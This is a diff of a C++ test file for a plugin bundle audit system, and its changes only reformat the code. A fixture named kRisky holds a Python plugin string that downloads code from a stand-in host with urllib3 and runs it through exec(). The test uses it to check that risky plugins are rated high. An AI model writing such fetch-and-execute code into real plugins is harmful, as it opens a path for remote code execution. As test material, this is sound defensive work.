@@ -10,12 +10,13 @@ using trust::Code;
 using trust::Files;
 
 // Fetches code over the network and executes it, as a plugin.
-const Files kRisky{{"watch.py",
-                    "import urllib3\n\n\n"
-                    "class Watch:\n"
-                    "    def start(self, scheduler):\n"
-                    "        answer = urllib3.PoolManager().request('GET', 'https://plugins.example/watch.py')\n"
-                    "        exec(answer.data)\n"}};
+const Files kRisky{
+    {"watch.py",
+     "import urllib3\n\n\n"
+     "class Watch:\n"
+     "    def start(self, scheduler):\n"
+     "        answer = urllib3.PoolManager().request('GET', 'https://plugins.example/watch.py')\n"
+     "        exec(answer.data)\n"}};
 const Files kPlain{{"watch.py", "class Watch:\n    def start(self, scheduler):\n        self.seen = 0\n"}};
 
 TEST(BundleAudit, RatesARiskyPluginHighAndAPlainOneLow) {
@@ -86,8 +87,8 @@ TEST(BundleAudit, ExaminesTheFilesThatWereVerified) {
   policy.keys = {key.public_key()};
   policy.examine = risk_examiner(0.5);
   const auto verify = [&](const Files& files, const std::optional<AuditNote>& note) {
-    const auto bundle =
-        trust::bundle_by({&key}, [&](trust::Manifest& manifest) { manifest.audit = note; }, files);
+    const auto bundle = trust::bundle_by(
+        {&key}, [&](trust::Manifest& manifest) { manifest.audit = note; }, files);
     const auto verified = trust::verify(bundle, policy, {}, std::nullopt, trust::kMade);
     return verified ? std::nullopt : std::optional(verified.error().code);
   };
